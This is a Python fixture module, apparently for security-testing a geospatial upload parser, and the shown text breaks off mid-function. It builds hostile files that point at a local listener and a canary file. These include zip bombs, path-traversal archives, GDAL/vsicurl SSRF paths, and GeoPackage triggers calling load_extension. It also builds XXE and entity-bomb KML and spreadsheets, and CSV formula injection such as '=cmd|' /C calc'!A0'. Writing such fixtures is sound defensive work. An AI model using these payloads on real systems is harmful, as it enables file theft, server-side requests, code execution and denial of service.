"""Files made to do harm, each by a function of its own: written into a folder when asked for.

``ADDRESS`` is a listener on this machine and ``CANARY`` a file that no reader has any business
with: where a file refers to something, it refers to one of the two.
"""

from __future__ import annotations

import io
import json
import random
import sqlite3
import struct
import zipfile
from contextlib import closing
from pathlib import Path

HEAD = (
    "[属性描述]\n坐标系=2000国家大地坐标系\n几度分带=3\n投影类型=高斯克吕格\n计量单位=米\n带号=35\n"
    "[地块坐标]\n"
)
SQUARE = [[106.1, 30.8], [106.11, 30.8], [106.11, 30.81], [106.1, 30.81], [106.1, 30.8]]
PRJ = (
    'GEOGCS["GCS_China_Geodetic_Coordinate_System_2000",DATUM["D_China_2000",'
    'SPHEROID["CGCS2000",6378137.0,298.257222101]],PRIMEM["Greenwich",0.0],'
    'UNIT["Degree",0.0174532925199433]]'
)
MAKERS = {}
DATA = Path(__file__).parents[1] / "data" / "boundary"
CANARY_TEXT = "canary-4711"


def makes(name):
    """Keep a function that returns the content of a hostile file, or writes it."""

    def keep(function):
        MAKERS[name] = function
        return function

    return keep


class Trap:
    """Where hostile files point to."""

    def __init__(self, folder: Path, address: str) -> None:
        self.address = address
        self.canary = folder / "secret" / "canary.geojson"
        self.canary.parent.mkdir(parents=True)
        self.canary.write_text(
            json.dumps(
                {
                    "type": "Feature",
                    "properties": {"name": CANARY_TEXT},
                    "geometry": {"type": "Polygon", "coordinates": [SQUARE]},
                }
            ),
            encoding="utf-8",
        )


def write_all(folder: Path, trap: Trap) -> dict[str, Path]:
    """Write every hostile file into a folder of its own; return the paths by name."""
    paths = {}
    for number, (name, make) in enumerate(MAKERS.items()):
        own = folder / f"{number:03d}"
        own.mkdir(parents=True)
        made = make(trap, own)
        if isinstance(made, Path):
            paths[name] = made
            continue
        suffix, content = made
        path = own / f"plot{suffix}"
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
        paths[name] = path
    return paths


def pack(entries, compression=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return stream.getvalue()


def geojson(geometry):
    return json.dumps({"type": "Feature", "properties": {}, "geometry": geometry})


def plot(points, line="5,1,DK1,甲,面,,,,@"):
    rows = [f"J{n},{ring},{x},{y}" for n, (ring, x, y) in enumerate(points, 1)]
    return HEAD + "\n".join([line, *rows, ""])


def square_points(west=605200.0, south=3409250.0, side=150.0, ring=1):
    xy = [(0, 0), (0, side), (side, side), (side, 0), (0, 0)]
    return [(ring, south + y, west + x) for x, y in xy]


def shapefile(folder: Path, stem="plot", prj=PRJ, cpg="UTF-8"):
    """Write a sound shapefile of one square; return its parts."""
    ring = struct.pack("<10d", *[v for xy in SQUARE for v in xy])
    box = struct.pack("<4d", 106.1, 30.8, 106.11, 30.81)
    shape = struct.pack("<i", 5) + box + struct.pack("<iii", 1, 5, 0) + ring
    record = struct.pack(">ii", 1, len(shape) // 2) + shape
    head = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, (100 + len(record)) // 2)
    head += struct.pack("<ii", 1000, 5) + box + struct.pack("<4d", 0, 0, 0, 0)
    index = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, 54) + head[28:]
    index += struct.pack(">ii", 50, len(shape) // 2)
    dbf = struct.pack("<BBBBIHH20x", 3, 126, 1, 1, 1, 65, 11)
    dbf += (
        struct.pack("<11sc4xBB14x", b"name", b"C", 10, 0) + b"\r" + b" " + b"A".ljust(10) + b"\x1a"
    )
    parts = {
        ".shp": head + record,
        ".shx": index,
        ".dbf": dbf,
        ".prj": prj.encode(),
        ".cpg": cpg.encode(),
    }
    for suffix, content in parts.items():
        (folder / f"{stem}{suffix}").write_bytes(content)
    return parts


def zipped_shapefile(parts, **changed):
    return pack([(f"plot{s}", c) for s, c in {**parts, **changed}.items()])


# archives


@makes("zip bomb by ratio")
def _(_trap, _folder):
    return ".zip", pack([("plot.shp", bytes(60_000_000))])


@makes("zip bomb that lies about its size")
def _(_trap, _folder):
    raw = bytearray(
        pack(
            [
                ("plot.shp", bytes(60_000_000)),
                ("plot.shx", b"x"),
                ("plot.dbf", b"x"),
                ("plot.prj", PRJ),
            ]
        )
    )
    struct.pack_into("<I", raw, 22, 1000)
    central = raw.find(b"PK\x01\x02")
    struct.pack_into("<I", raw, central + 24, 1000)
    return ".zip", bytes(raw)


@makes("zip whose entries overlap")
def _(_trap, _folder):
    raw = pack([("a.shp", bytes(1_000_000))])
    local, central = raw[: raw.find(b"PK\x01\x02")], raw[raw.find(b"PK\x01\x02") :]
    entry = central[: central.find(b"PK\x05\x06")]
    entries = b"".join(entry.replace(b"a.shp", f"{n:05d}"[:5].encode()) for n in range(900))
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 900, 900, len(entries), len(local), 0)
    return ".zip", local + entries + end


@makes("zip of 60,000 entries")
def _(_trap, _folder):
    return ".zip", pack([(f"{n}.txt", b"") for n in range(60_000)], zipfile.ZIP_STORED)


@makes("zip that climbs out")
def _(_trap, _folder):
    return ".zip", pack([("../../evil.shp", b"x")])


@makes("zip with an absolute path")
def _(trap, _folder):
    return ".zip", pack([(str(trap.canary), b"x")])


@makes("zip with a drive")
def _(_trap, _folder):
    return ".zip", pack([("C:\\evil.shp", b"x")])


@makes("zip that climbs out with backslashes")
def _(_trap, _folder):
    return ".zip", pack([("..\\..\\evil.shp", b"x")])


@makes("zip with a link to the canary")
def _(trap, folder):
    parts = shapefile(folder)
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for suffix, content in parts.items():
            info = zipfile.ZipInfo(f"plot{suffix}")
            if suffix == ".prj":
                info.external_attr, content = 0o120777 << 16, str(trap.canary).encode()
            archive.writestr(info, content)
    return ".zip", stream.getvalue()


@makes("zip with a password")
def _(_trap, _folder):
    raw = bytearray(pack([("plot.shp", b"x" * 100)]))
    raw[6] |= 1
    raw[raw.find(b"PK\x01\x02") + 8] |= 1
    return ".zip", bytes(raw)


@makes("zip with a zero byte in a name")
def _(_trap, _folder):
    raw = pack([("plot.sXp", b"x")])
    return ".zip", raw.replace(b"plot.sXp", b"plot.s\0p")


@makes("zip in a zip in a zip")
def _(_trap, _folder):
    raw = pack([("plot.txt", plot(square_points()))])
    for _step in range(20):
        raw = pack([("plot.zip", raw)])
    return ".zip", raw


@makes("zip cut in the middle")
def _(_trap, folder):
    raw = zipped_shapefile(shapefile(folder))
    return ".zip", raw[: len(raw) // 2]


@makes("zip that is nothing but a head")
def _(_trap, _folder):
    return ".zip", b"PK\x03\x04" + bytes(100)


@makes("zip with a text bomb in it")
def _(_trap, _folder):
    return ".zip", pack([("plot.txt", HEAD.encode() + b"J1,1,3409250,35605200\n" * 2_000_000)])


@makes("kmz bomb")
def _(_trap, _folder):
    return ".kmz", pack([("doc.kml", b"<kml>" + b" " * 90_000_000 + b"</kml>")])


@makes("kmz that climbs out")
def _(_trap, _folder):
    return ".kmz", pack([("doc.kml", b"<kml/>"), ("../../doc.kml", b"<kml/>")])


# what GDAL would open


def vrt(source):
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="canary"><SrcDataSource>{source}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    )


for _suffix in (
    ".vrt",
    ".gpkg",
    ".shp",
    ".geojson",
    ".kml",
    ".txt",
    ".dxf",
    ".fgb",
    ".tab",
    ".csv",
):

    @makes(f"virtual dataset named {_suffix}")
    def _(trap, _folder, suffix=_suffix):
        return suffix, vrt(trap.canary)


@makes("virtual dataset at an address")
def _(trap, _folder):
    return ".vrt", vrt(f"/vsicurl/{trap.address}/plot.geojson")


@makes("virtual dataset in a zip")
def _(trap, _folder):
    return ".zip", pack([("plot.shp", vrt(trap.canary)), ("plot.vrt", vrt(trap.canary))])


@makes("path of an address")
def _(trap, _folder):
    return Path(f"/vsicurl/{trap.address}/plot.geojson")


@makes("path into a remote zip")
def _(trap, _folder):
    return Path(f"/vsizip//vsicurl/{trap.address}/plot.zip/plot.shp")


@makes("text that is an address")
def _(trap, _folder):
    return ".txt", f"/vsicurl/{trap.address}/plot.geojson"


@makes("json that is a connection")
def _(trap, _folder):
    return ".json", json.dumps(
        {
            "type": "FeatureCollection",
            "features": [],
            "links": [{"rel": "next", "href": trap.address}],
        }
    )


@makes("service description")
def _(trap, _folder):
    return ".geojson", f"<OGRWFSDataSource><URL>{trap.address}</URL></OGRWFSDataSource>"


@makes("esri service reply")
def _(trap, _folder):
    return ".json", json.dumps(
        {
            "geometryType": "esriGeometryPolygon",
            "features": [],
            "exceededTransferLimit": True,
            "url": trap.address,
        }
    )


@makes("crs that is a link")
def _(trap, _folder):
    return ".geojson", json.dumps(
        {
            "type": "FeatureCollection",
            "features": [],
            "crs": {"type": "link", "properties": {"href": trap.address, "type": "proj4"}},
        }
    )


@makes("crs that is an address")
def _(trap, _folder):
    document = json.loads(geojson({"type": "Polygon", "coordinates": [SQUARE]}))
    document["crs"] = {"type": "name", "properties": {"name": f"{trap.address}/def/crs/EPSG/0/1"}}
    return ".geojson", json.dumps(document)


@makes("prj with a grid file")
def _(trap, folder):
    shapefile(folder, prj=f"+proj=longlat +ellps=GRS80 +nadgrids={trap.canary} +no_defs")
    return folder / "plot.shp"


@makes("prj that is a pipeline")
def _(trap, folder):
    shapefile(folder, prj=f"+proj=pipeline +step +proj=hgridshift +grids={trap.canary}")
    return folder / "plot.shp"


@makes("prj that names a file of definitions")
def _(trap, folder):
    shapefile(folder, prj=f"+init={trap.canary}:1")
    return folder / "plot.shp"


@makes("prj with a grid file in an extension")
def _(trap, folder):
    extension = f'EXTENSION["PROJ4","+proj=longlat +ellps=GRS80 +nadgrids={trap.canary}"]'
    shapefile(folder, prj=f"{PRJ[:-1]},{extension}]")
    return folder / "plot.shp"


@makes("prj with a parameter file")
def _(trap, folder):
    operation = (
        f'ABRIDGEDTRANSFORMATION["a",METHOD["NTv2",ID["EPSG",9615]],'
        f'PARAMETERFILE["Latitude and longitude difference file","{trap.canary}"]]'
    )
    target = 'GEOGCRS["WGS 84",DATUM["World Geodetic System 1984",ELLIPSOID["WGS 84",6378137,\
298.257223563]],CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",\
0.0174532925199433]]'
    shapefile(folder, prj=f"BOUNDCRS[SOURCECRS[{target}],TARGETCRS[{target}],{operation}]")
    return folder / "plot.shp"


@makes("prj that is an address")
def _(trap, folder):
    shapefile(folder, prj=trap.address)
    return folder / "plot.shp"


@makes("prj of ten megabytes")
def _(_trap, folder):
    shapefile(folder, prj=PRJ[:-1] + ',EXTENSION["' + "x" * 10_000_000 + '"]]')
    return folder / "plot.shp"


@makes("prj of deep brackets")
def _(_trap, folder):
    shapefile(folder, prj="GEOGCS[" * 100_000)
    return folder / "plot.shp"


@makes("cpg that is a link to the canary")
def _(trap, folder):
    shapefile(folder)
    (folder / "plot.cpg").unlink()
    (folder / "plot.cpg").symlink_to(trap.canary)
    return folder / "plot.shp"


@makes("shapefile that promises two billion points")
def _(_trap, folder):
    content = bytearray(shapefile(folder)[".shp"])
    struct.pack_into("<I", content, 100 + 8 + 40, 2_000_000_000)
    (folder / "plot.shp").write_bytes(content)
    return folder / "plot.shp"


@makes("shapefile that promises ten million points and parts")
def _(_trap, folder):
    content = bytearray(shapefile(folder)[".shp"])
    struct.pack_into("<II", content, 100 + 8 + 36, 10_000_000, 10_000_000)
    (folder / "plot.shp").write_bytes(content)
    return folder / "plot.shp"


@makes("shapefile with a record of a wrong length")
def _(_trap, folder):
    content = bytearray(shapefile(folder)[".shp"])
    struct.pack_into(">I", content, 104, 0x7FFFFFFF)
    (folder / "plot.shp").write_bytes(content)
    return folder / "plot.shp"


@makes("shapefile of NaN")
def _(_trap, folder):
    content = bytearray(shapefile(folder)[".shp"])
    struct.pack_into("<d", content, 160, float("nan"))
    (folder / "plot.shp").write_bytes(content)
    return folder / "plot.shp"


@makes("dbf that promises four billion rows")
def _(_trap, folder):
    content = bytearray(shapefile(folder)[".dbf"])
    struct.pack_into("<I", content, 4, 0xFFFFFFFF)
    (folder / "plot.dbf").write_bytes(content)
    return folder / "plot.shp"


@makes("dbf with a field of no type")
def _(_trap, folder):
    content = bytearray(shapefile(folder)[".dbf"])
    content[32 + 11] = 0
    (folder / "plot.dbf").write_bytes(content)
    return folder / "plot.shp"


def geopackage(folder, *statements):
    path = folder / "plot.gpkg"
    with closing(sqlite3.connect(path)) as base:
        base.execute("pragma application_id = 1196444487")
        base.execute("pragma user_version = 10300")
        base.executescript(
            "create table gpkg_spatial_ref_sys (srs_name text, srs_id integer primary key, "
            "organization text, organization_coordsys_id integer, definition text, "
            "description text);"
            f"insert into gpkg_spatial_ref_sys values ('a', 4490, 'EPSG', 4490, '{PRJ}', '');"
            "create table gpkg_contents (table_name text primary key, data_type text, "
            "identifier text, description text, last_change text, min_x double, min_y double, "
            "max_x double, max_y double, srs_id integer);"
            "insert into gpkg_contents values ('p', 'features', 'p', '', '2020-01-01T00:00:00Z', "
            "0, 0, 1, 1, 4490);"
            "create table gpkg_geometry_columns (table_name text, column_name text, "
            "geometry_type_name text, srs_id integer, z tinyint, m tinyint);"
            "insert into gpkg_geometry_columns values ('p', 'geom', 'POLYGON', 4490, 0, 0);"
        )
        for statement in statements:
            base.executescript(statement)
        base.commit()
    return path


@makes("geopackage whose layer is a view on files")
def _(trap, folder):
    return geopackage(
        folder, f"create view p as select 1 as fid, readfile('{trap.canary}') as geom"
    )


@makes("geopackage with a virtual table")
def _(trap, folder):
    path = geopackage(folder, "create table p (fid integer primary key, geom blob)")
    with closing(sqlite3.connect(path)) as base:
        base.execute("pragma writable_schema = on")
        base.execute(
            "insert into sqlite_master values ('table', 'v', 'v', 0, "
            f"'CREATE VIRTUAL TABLE v USING VirtualOGR(\"{trap.canary}\")')"
        )
        base.commit()
    return path


@makes("geopackage with a trigger")
def _(trap, folder):
    return geopackage(
        folder,
        "create table p (fid integer primary key, geom blob)",
        f"create trigger t after insert on p begin select load_extension('{trap.canary}'); end",
    )


@makes("geopackage that counts without end")
def _(_trap, folder):
    return geopackage(
        folder,
        "create view p as with recursive n(fid) as (select 1 union all select fid + 1 from n) "
        "select fid, x'4750' as geom from n",
    )


@makes("geopackage with a geometry of a huge count")
def _(_trap, folder):
    blob = b"GP\x00\x01" + struct.pack("<i", 4490) + struct.pack("<BIII", 1, 3, 1, 0x7FFFFFFF)
    return geopackage(
        folder,
        "create table p (fid integer primary key, geom blob)",
        f"insert into p values (1, x'{blob.hex()}')",
    )


@makes("geopackage cut in the middle")
def _(_trap, folder):
    path = geopackage(folder, "create table p (fid integer primary key, geom blob)")
    path.write_bytes(path.read_bytes()[:9000])
    return path


@makes("database that is no geopackage")
def _(_trap, folder):
    path = folder / "plot.gpkg"
    with closing(sqlite3.connect(path)) as base:
        base.execute("create table a (b)")
        base.commit()
    return path


@makes("flatgeobuf that promises features")
def _(_trap, _folder):
    return ".fgb", b"fgb\x03fgb\x01" + struct.pack("<I", 0x7FFFFFF0) + bytes(100)


@makes("parquet that is cut")
def _(_trap, _folder):
    return ".parquet", b"PAR1" + bytes(100) + struct.pack("<I", 0x7FFFFFFF) + b"PAR1"


@makes("mapinfo table that refers to the canary")
def _(trap, folder):
    (folder / "plot.tab").write_text(
        "!table\n!version 300\n!charset Neutral\n\nDefinition Table\n"
        f'  Type LINKED\n  File "{trap.canary}"\n',
        encoding="utf-8",
    )
    return folder / "plot.tab"


@makes("mapinfo table of another table")
def _(trap, folder):
    (folder / "plot.tab").write_text(
        "!table\n!version 300\n!charset Neutral\n\nDefinition Table\n"
        f'  Type NATIVE Charset "Neutral"\n  Fields 1\n    a Char (10) ;\n'
        f'begin_metadata\n"\\IsSeamless" = "TRUE"\n"\\File" = "{trap.canary}"\nend_metadata\n',
        encoding="utf-8",
    )
    for suffix in (".dat", ".map", ".id"):
        (folder / f"plot{suffix}").write_bytes(b"")
    return folder / "plot.tab"


@makes("geodatabase that is empty files")
def _(_trap, folder):
    gdb = folder / "plot.gdb"
    gdb.mkdir()
    for name in ("a00000001.gdbtable", "a00000001.gdbtablx", "gdb", "timestamps"):
        (gdb / name).write_bytes(b"\xff" * 200)
    return gdb


# XML


def kml(body, head='<?xml version="1.0"?>'):
    return f'{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'


PLACEMARK = (
    "<Placemark><name>{name}</name><Polygon><outerBoundaryIs><LinearRing><coordinates>"
    "106.1,30.8 106.11,30.8 106.11,30.81 106.1,30.8</coordinates></LinearRing>"
    "</outerBoundaryIs></Polygon></Placemark>"
)


@makes("entity bomb")
def _(_trap, _folder):
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
    )
    head = f'<?xml version="1.0"?><!DOCTYPE kml [{entities}]>'
    return ".kml", kml(PLACEMARK.format(name="&j;"), head)


@makes("quadratic entity bomb")
def _(_trap, _folder):
    head = f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "{"a" * 50_000}">]>'
    return ".kml", kml(PLACEMARK.format(name="&a;" * 50_000), head)


@makes("external entity")
def _(trap, _folder):
    head = f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "{trap.canary.as_uri()}">]>'
    return ".kml", kml(PLACEMARK.format(name="&x;"), head)


@makes("external entity at an address")
def _(trap, _folder):
    head = f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "{trap.address}/x">]>'
    return ".kml", kml(PLACEMARK.format(name="&x;"), head)


@makes("external document type")
def _(trap, _folder):
    head = f'<?xml version="1.0"?><!DOCTYPE kml SYSTEM "{trap.address}/x.dtd">'
    return ".kml", kml(PLACEMARK.format(name="a"), head)


@makes("parameter entity")
def _(trap, _folder):
    head = f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY % x SYSTEM "{trap.address}/x">%x;]>'
    return ".kml", kml(PLACEMARK.format(name="a"), head)


@makes("entity bomb in UTF-16")
def _(_trap, _folder):
    head = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa">]>'
    return ".kml", kml(PLACEMARK.format(name="&a;"), head).encode("utf-16")


@makes("included document")
def _(trap, _folder):
    body = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{trap.canary}"/>'
    return ".kml", kml(body + PLACEMARK.format(name="a"))


@makes("network link")
def _(trap, _folder):
    link = f"<NetworkLink><Link><href>{trap.address}/x.kml</href></Link></NetworkLink>"
    return ".kml", kml(link + PLACEMARK.format(name="a"))


@makes("icon and schema at an address")
def _(trap, _folder):
    style = f"<Style><IconStyle><Icon><href>{trap.address}/x.png</href></Icon></IconStyle></Style>"
    return ".kml", kml(style + PLACEMARK.format(name="a"))


@makes("deep xml")
def _(_trap, _folder):
    return ".kml", "<kml>" + "<Folder>" * 200_000


@makes("one coordinate without end")
def _(_trap, _folder):
    return ".kml", kml(
        "<Placemark><Polygon><outerBoundaryIs><LinearRing><coordinates>"
        + "1" * 20_000_000
        + "</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>"
    )


@makes("a million placemarks")
def _(_trap, _folder):
    return ".kml", kml("<Placemark><name>a</name></Placemark>" * 1_000_000)


# workbooks and tables


def workbook(rows, strings=None, extra=()):
    sheet = (
        '<?xml version="1.0"?>{dtd}<worksheet xmlns="http://schemas.openxmlformats.org/'
        'spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    )
    dtd, rows = rows if isinstance(rows, tuple) else ("", rows)
    main = "http://schemas.openxmlformats.org"
    parts = [
        (
            "[Content_Types].xml",
            f'<Types xmlns="{main}/package/2006/content-types">'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        ),
        (
            "_rels/.rels",
            f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship Id="r1" '
            f'Type="{main}/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        ),
        (
            "xl/workbook.xml",
            f'<workbook xmlns="{main}/spreadsheetml/2006/main" '
            f'xmlns:r="{main}/officeDocument/2006/relationships"><sheets>'
            '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        ),
        (
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{main}/package/2006/relationships"><Relationship Id="r1" '
            f'Type="{main}/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/><Relationship Id="r2" '
            f'Type="{main}/officeDocument/2006/relationships/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>',
        ),
        ("xl/worksheets/sheet1.xml", sheet.format(dtd=dtd, rows=rows)),
    ]
    if strings is not None:
        parts.append(("xl/sharedStrings.xml", strings))
    return pack([*parts, *extra])


def cells(*values):
    return "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for value in values)


TABLE = f"<row>{cells('点号', '纵坐标', '横坐标')}</row>" + "".join(
    f"<row>{cells(n, x, y)}</row>"
    for n, (x, y) in enumerate([(3409250, 35605200), (3409400, 35605200), (3409400, 35605400)])
)


@makes("workbook with commands in cells")
def _(trap, _folder):
    row = f"<row>{cells('=cmd|calc!A0', '@SUM(1)', f'=WEBSERVICE({trap.address})')}</row>"
    return ".xlsx", workbook(TABLE + row)


@makes("workbook with an entity bomb")
def _(_trap, _folder):
    dtd = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return ".xlsx", workbook((dtd, TABLE + f"<row>{cells('&b;')}</row>"))


@makes("workbook with an external entity")
def _(trap, _folder):
    dtd = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{trap.canary.as_uri()}">]>'
    return ".xlsx", workbook((dtd, TABLE + f"<row>{cells('&x;')}</row>"))


@makes("workbook with an external entity in its strings")
def _(trap, _folder):
    strings = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "{trap.canary.as_uri()}">]>'
        "<sst><si><t>&x;</t></si></sst>"
    )
    return ".xlsx", workbook(TABLE + '<row><c t="s"><v>0</v></c></row>', strings)


@makes("workbook with a late external entity")
def _(trap, _folder):
    dtd = " " * 9000 + f'<!DOCTYPE x [<!ENTITY x SYSTEM "{trap.canary.as_uri()}">]>'
    return ".xlsx", workbook((dtd, TABLE + f"<row>{cells('&x;')}</row>"))


@makes("workbook with links to other books")
def _(trap, _folder):
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/externalLinkPath" Target="{trap.address}/b.xlsx" TargetMode="External"/>'
        "</Relationships>"
    )
    return ".xlsx", workbook(TABLE, extra=[("xl/externalLinks/_rels/externalLink1.xml.rels", link)])


@makes("workbook bomb")
def _(_trap, _folder):
    return ".xlsx", workbook(TABLE + " " * 80_000_000)


@makes("workbook with a cell in the last column and row")
def _(_trap, _folder):
    return ".xlsx", workbook(
        TABLE + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>1</t></is></c></row>'
    )


@makes("workbook with a string without end")
def _(_trap, _folder):
    return ".xlsx", workbook(TABLE + f"<row>{cells('1' * 4_000_000)}</row>")


@makes("workbook that is cut")
def _(_trap, _folder):
    return ".xlsx", workbook(TABLE)[:-200]


@makes("table with commands in cells")
def _(trap, _folder):
    return ".csv", (
        "点号,纵坐标,横坐标,备注\n1,3409250,35605200,=cmd|' /C calc'!A0\n"
        f'2,3409400,35605200,"=HYPERLINK(""{trap.address}"")"\n3,3409400,35605400,@x\n'
    )


@makes("table with a quote that never ends")
def _(_trap, _folder):
    return ".csv", '点号,纵坐标,横坐标\n1,"' + "3409250\n" * 2_000_000


@makes("table of a million columns")
def _(_trap, _folder):
    return ".csv", "点号,纵坐标,横坐标\n" + "," * 1_000_000


@makes("table of a million rows")
def _(_trap, _folder):
    return ".csv", "点号,纵坐标,横坐标\n" + "1,3409250,35605200\n" * 1_100_000


@makes("known text of nested collections")
def _(_trap, _folder):
    return ".wkt", "GEOMETRYCOLLECTION(" * 50_000


@makes("known text of NaN")
def _(_trap, _folder):
    return ".wkt", "POLYGON((nan nan,inf 1,1e999 2,nan nan))"


# drawings


def dxf(entities, blocks=""):
    end = "0\nENDSEC\n"
    head = f"0\nSECTION\n2\nBLOCKS\n{blocks}{end}"
    return f"{head}0\nSECTION\n2\nENTITIES\n{entities}{end}0\nEOF\n"


@makes("drawing of blocks that contain themselves")
def _(_trap, _folder):
    block = "0\nBLOCK\n8\n0\n2\nA\n0\nINSERT\n8\n0\n2\nA\n0\nENDBLK\n"
    return ".dxf", dxf("0\nINSERT\n8\n0\n2\nA\n", block)


@makes("drawing of blocks of blocks of blocks")
def _(_trap, _folder):
    blocks = "".join(
        f"0\nBLOCK\n8\n0\n2\nB{n}\n" + f"0\nINSERT\n8\n0\n2\nB{n + 1}\n" * 10 + "0\nENDBLK\n"
        for n in range(9)
    )
    line = "0\nLWPOLYLINE\n8\n0\n90\n4\n70\n1\n" + "10\n605200\n20\n3409250\n" * 4
    return ".dxf", dxf("0\nINSERT\n8\n0\n2\nB0\n", blocks + f"0\nBLOCK\n2\nB9\n{line}0\nENDBLK\n")


@makes("drawing with an array of inserts")
def _(_trap, _folder):
    square = "10\n0\n20\n0\n10\n9\n20\n0\n10\n9\n20\n9\n10\n0\n20\n9\n"
    line = f"0\nLWPOLYLINE\n8\n0\n90\n4\n70\n1\n{square}"
    insert = "0\nINSERT\n8\n0\n2\nA\n70\n30000\n71\n30000\n44\n10\n45\n10\n"
    return ".dxf", dxf(insert, f"0\nBLOCK\n2\nA\n{line}0\nENDBLK\n")


@makes("drawing with a reference to the canary")
def _(trap, _folder):
    block = f"0\nBLOCK\n8\n0\n2\nA\n70\n4\n1\n{trap.canary}\n0\nENDBLK\n"
    return ".dxf", dxf("0\nINSERT\n8\n0\n2\nA\n", block)


@makes("drawing with an arc of a huge bulge")
def _(_trap, _folder):
    points = "10\n605200\n20\n3409250\n42\n1e300\n10\n605400\n20\n3409250\n42\n1\n"
    line = f"0\nLWPOLYLINE\n8\n0\n90\n2\n70\n1\n{points}"
    return ".dxf", dxf(line)


@makes("drawing with a circle as large as the sky")
def _(_trap, _folder):
    return ".dxf", dxf("0\nCIRCLE\n8\n0\n10\n605200\n20\n3409250\n40\n1e15\n")


@makes("drawing of NaN")
def _(_trap, _folder):
    return ".dxf", dxf("0\nLWPOLYLINE\n8\n0\n90\n3\n70\n1\n" + "10\nnan\n20\ninf\n" * 3)


@makes("drawing cut in a pair")
def _(_trap, _folder):
    return ".dxf", dxf("0\nLWPOLYLINE\n8\n0\n90\n3\n70\n1\n10\n605200\n")[:60]


# survey text


@makes("text of NaN")
def _(_trap, _folder):
    return ".txt", plot([(1, "nan", "inf"), (1, "NaN", "-inf"), (1, 1, 2)])


@makes("text of 1e308")
def _(_trap, _folder):
    return ".txt", plot([(1, "1e308", "-1e308"), (1, "1e999", "1e-400"), (1, "9" * 400, 2)])


@makes("text that promises ten million points")
def _(_trap, _folder):
    return ".txt", plot(square_points(), "10000000,1,DK1,甲,面,,,,@")


@makes("text with a count of a million digits")
def _(_trap, _folder):
    return ".txt", plot(square_points(), "9" * 1_000_000 + ",1,DK1,甲,面,,,,@")


@makes("text with a ring number without end")
def _(_trap, _folder):
    return ".txt", plot([("9" * 5000, x, y) for _, x, y in square_points()])


@makes("text in mixed encodings")
def _(_trap, _folder):
    text = plot(square_points())
    return ".txt", text.encode("gbk") + text.encode() + text.encode("utf-16") + "縣市".encode(
        "big5"
    )


@makes("text of zero bytes")
def _(_trap, _folder):
    return ".txt", bytes(30_000_000)


@makes("text of one line")
def _(_trap, _folder):
    return ".txt", HEAD + "1," * 10_000_000


@makes("text of line ends")
def _(_trap, _folder):
    return ".txt", HEAD + "\r\n\n\r" * 4_000_000


@makes("text of head lines")
def _(_trap, _folder):
    return ".txt", "[属性描述]\n" + "".join(f"k{n}=v\n" for n in range(500_000))


@makes("text of empty plots")
def _(_trap, _folder):
    return ".txt", HEAD + "4,1,A,甲,面,,,,@\n" * 300_000


@makes("text of degrees meant for slow patterns")
def _(_trap, _folder):
    return ".txt", plot(
        [(1, "1" + "°" * 50_000, "N" * 50_000 + "1°"), (1, "3" * 50_000, "1'" * 9999)]
    )


@makes("text with an area meant for slow patterns")
def _(_trap, _folder):
    return ".txt", plot(square_points(), f"4,{'1' * 50_000}{' ' * 50_000}x,DK1,甲,面,,,,@")


@makes("star that crosses itself at every edge")
def _(_trap, _folder):
    count = 2001
    points = []
    for n in range(count):
        k = n * (count // 2) % count
        x, y = _on_circle(k / count)
        points.append((1, 3409250 + 900 * y, 605200 + 900 * x))
    return ".txt", plot(points)


@makes("rings within rings within rings")
def _(_trap, _folder):
    points = []
    for n in range(3000):
        points += square_points(
            605200 + n * 0.02, 3409250 + n * 0.02, 200 - n * 0.04, ring=n % 9999
        )
    return ".txt", plot(points)


@makes("rings beside rings")
def _(_trap, _folder):
    points = []
    for n in range(9000):
        points += square_points(605200 + n % 100 * 30, 3409250 + n // 100 * 30, 20, ring=n)
    return ".txt", plot(points)


@makes("rings that all overlap")
def _(_trap, _folder):
    points = []
    for n in range(2000):
